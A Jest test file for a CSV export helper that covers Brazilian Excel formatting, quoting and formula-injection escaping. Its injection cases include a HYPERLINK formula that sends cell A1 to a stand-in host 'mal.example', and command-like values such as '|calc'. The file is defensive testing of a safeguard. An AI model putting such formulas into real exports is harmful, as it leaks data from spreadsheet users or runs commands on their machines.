import { describe, expect, it } from '@jest/globals';
import { csvOf } from './csv.js';

describe('a table for spreadsheets', () => {
  it('is UTF-8 with its mark, semicolons and decimal commas, as a Brazilian Excel opens it', () => {
    expect(csvOf(['Fila', 'Cumprimento (%)'], [['Integrações', 93.75]], 'semicolon')).toBe(
      '\uFEFFFila;Cumprimento (%)\r\nIntegrações;93,75\r\n',
    );
  });

  it('has decimal points between commas, for programs', () => {
    expect(csvOf(['a', 'b'], [[1.5, null]], 'comma')).toBe('\uFEFFa,b\r\n1.5,\r\n');
  });

  it('quotes separators, quotation marks and line ends', () => {
    expect(csvOf(['a'], [['um; "dois"\r\ntrês']], 'tab')).toBe(
      '\uFEFFa\r\n"um; ""dois""\r\ntrês"\r\n',
    );
  });

  it.each([
    '=1+1',
    '=HYPERLINK("https://mal.example?x="&A1;"clique")',
    '+55 11 99999-0000',
    '-2+3',
    '@SUM(A1)',
    ' =1+1',
    '\u00A0=1+1',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '\t=1+1',
    '\rcmd',
    '\n=1+1',
    '＝1+1',
    '＠SUM(A1)',
    '|calc',
  ])('runs nothing: %j stays text', (text) => {
    const [, cell] = /^\uFEFFc\r\n"?('?[\s\S]*?)"?\r\n$/.exec(csvOf(['c'], [[text]], 'semicolon'))!;
    expect(cell!.startsWith("'")).toBe(true);
  });

  it('leaves honest text and negative numbers alone', () => {
    expect(csvOf(['c'], [['nota 10 = ótimo'], [-3]], 'semicolon')).toBe(
      '\uFEFFc\r\nnota 10 = ótimo\r\n-3\r\n',
    );
  });
});
